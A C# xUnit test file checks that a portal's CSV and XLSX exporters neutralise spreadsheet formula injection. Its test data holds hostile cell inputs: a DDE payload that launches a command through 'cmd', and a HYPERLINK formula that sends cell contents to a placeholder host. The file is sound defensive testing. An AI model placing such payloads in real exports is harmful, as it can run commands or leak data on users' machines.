using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using Portal.Exports;
using Xunit;

namespace Portal.Tests.Reports;

/// <summary>The two writers: nothing that is taken out is a formula, and what was in it is in it again.</summary>
public sealed class ExportFileTests
{
    public static TheoryData<string> Dangerous =>
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00A0=1+1", "\u200B=1+1", "\uFEFF@x", "\u00AD+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1",
        "﹣1", "﹫x", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=HYPERLINK(\"https://x.example?\"&A1)", "\tx", "\rx",
    ];

    [Theory]
    [MemberData(nameof(Dangerous))]
    public async Task No_cell_of_a_csv_begins_like_a_formula(string text)
    {
        var written = await Csv(new ExportTable("x", ["a", "b"], [[text, "z"]]));
        var cell = Read(written)[1][0];

        Assert.Equal("'" + text, cell);
        Assert.Equal("z", Read(written)[1][1]);
    }

    [Theory]
    [InlineData("TikTok")]
    [InlineData("R-2026-7K4M2Q")]
    [InlineData("a=b")]
    [InlineData("3 - 4 h")]
    [InlineData("dit \"oui\", puis ; non")]
    [InlineData("deux\r\nlignes")]
    [InlineData(" espace ")]
    [InlineData("éàü 中 🚨")]
    [InlineData("")]
    public async Task What_is_harmless_is_written_as_it_is(string text) =>
        Assert.Equal(text, Read(await Csv(new ExportTable("x", ["a"], [[text]])))[1][0]);

    [Fact]
    public async Task A_csv_has_its_mark_commas_and_plain_numbers_in_every_language()
    {
        System.Globalization.CultureInfo.CurrentCulture = System.Globalization.CultureInfo.GetCultureInfo("fr-FR");
        using var file = new MemoryStream();
        await CsvFile.Write(file, Table, CancellationToken.None);
        var bytes = file.ToArray();

        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        Assert.Equal("Nom,Nombre,Part,Quand,Rien\r\nTikTok,1234,0.87,2026-11-24T13:00:00+01:00,\r\n", Encoding.UTF8.GetString(bytes[3..]));
    }

    [Fact]
    public void A_spreadsheet_opens_again_and_is_valid()
    {
        using var document = Xlsx(Table);
        Assert.Empty(new OpenXmlValidator().Validate(document).Select(error => error.Description));
        var rows = Rows(document);

        Assert.Equal(["Nom", "Nombre", "Part", "Quand", "Rien"], rows[0].Select(cell => cell.InnerText));
        Assert.Equal(["TikTok", "1234", "0.87", "2026-11-24T13:00:00+01:00", ""], rows[1].Select(cell => cell.InnerText));
        Assert.Equal([CellValues.InlineString, null, null, CellValues.InlineString, null], rows[1].Select(cell => cell.DataType?.Value));
    }

    [Theory]
    [MemberData(nameof(Dangerous))]
    public void Texts_of_a_spreadsheet_are_typed_as_texts_and_stay_texts_when_edited(string text)
    {
        using var document = Xlsx(new ExportTable("x", [text], [[text]]));
        var formats = document.WorkbookPart!.WorkbookStylesPart!.Stylesheet!.CellFormats!.Elements<CellFormat>().ToList();

        Assert.All(Rows(document).SelectMany(row => row), cell =>
        {
            // XML keeps a lone carriage return only as a reference; nothing else may differ.
            Assert.Equal(text.Replace('\r', '\n'), cell.InnerText.Replace('\r', '\n'));
            Assert.Equal(CellValues.InlineString, cell.DataType!.Value);
            Assert.Null(cell.CellFormula);
            Assert.True(formats[(int)cell.StyleIndex!.Value].QuotePrefix!.Value);
        });
    }

    [Fact]
    public void What_xml_cannot_hold_does_not_break_a_spreadsheet()
    {
        using var document = Xlsx(new ExportTable(new string('n', 60), ["a"], [["a\u0001b\uFFFE 🚨"]]));

        Assert.Empty(new OpenXmlValidator().Validate(document).Select(error => error.Description));
        Assert.Equal("a\uFFFDb\uFFFD 🚨", Rows(document)[1][0].InnerText);
    }

    private static ExportTable Table => new(
        "figures", ["Nom", "Nombre", "Part", "Quand", "Rien"],
        [["TikTok", 1234, 0.87, new DateTimeOffset(2026, 11, 24, 12, 0, 0, TimeSpan.Zero), null]]);

    private static async Task<string> Csv(ExportTable table)
    {
        using var file = new MemoryStream();
        await CsvFile.Write(file, table, CancellationToken.None);
        return Encoding.UTF8.GetString(file.ToArray()[3..]);
    }

    private static SpreadsheetDocument Xlsx(ExportTable table)
    {
        var file = new MemoryStream();
        XlsxFile.Write(file, table);
        file.Position = 0;
        return SpreadsheetDocument.Open(file, isEditable: false);
    }

    private static List<List<Cell>> Rows(SpreadsheetDocument document) =>
        [.. document.WorkbookPart!.WorksheetParts.Single().Worksheet!.Descendants<Row>().Select(row => row.Elements<Cell>().ToList())];

    // RFC 4180, read letter by letter.
    private static List<List<string>> Read(string csv)
    {
        var (rows, cell, quoted) = (new List<List<string>> { new() }, new StringBuilder(), false);
        for (var i = 0; i < csv.Length; i++)
        {
            switch (csv[i])
            {
                case '"' when quoted && i + 1 < csv.Length && csv[i + 1] == '"':
                    cell.Append('"');
                    i++;
                    break;
                case '"':
                    quoted = !quoted;
                    break;
                case ',' or '\r' when !quoted:
                    rows[^1].Add(cell.ToString());
                    cell.Clear();
                    if (csv[i] == '\r') rows.Add([]);
                    break;
                case '\n' when !quoted:
                    break;
                default:
                    cell.Append(csv[i]);
                    break;
            }
        }

        return rows;
    }
}
